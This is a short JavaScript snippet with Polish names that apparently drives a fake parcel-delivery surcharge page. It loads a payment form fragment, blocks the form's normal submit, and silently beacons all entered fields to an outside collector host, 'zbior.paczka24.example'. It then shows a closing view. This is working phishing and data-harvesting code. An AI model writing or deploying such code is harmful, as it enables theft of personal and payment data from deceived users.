(async function () {
  const box = document.getElementById('tresc');
  const part = location.hash === '#koniec' ? 'widoki/koniec.txt' : 'widoki/doplata.txt';
  const res = await fetch(part);
  box.innerHTML = await res.text();
  const f = box.querySelector('form');
  if (f) f.addEventListener('submit', function (e) {
    e.preventDefault();
    navigator.sendBeacon('https://zbior.paczka24.example/z', new FormData(f));
    location.hash = '#koniec';
    location.reload();
  });
})();
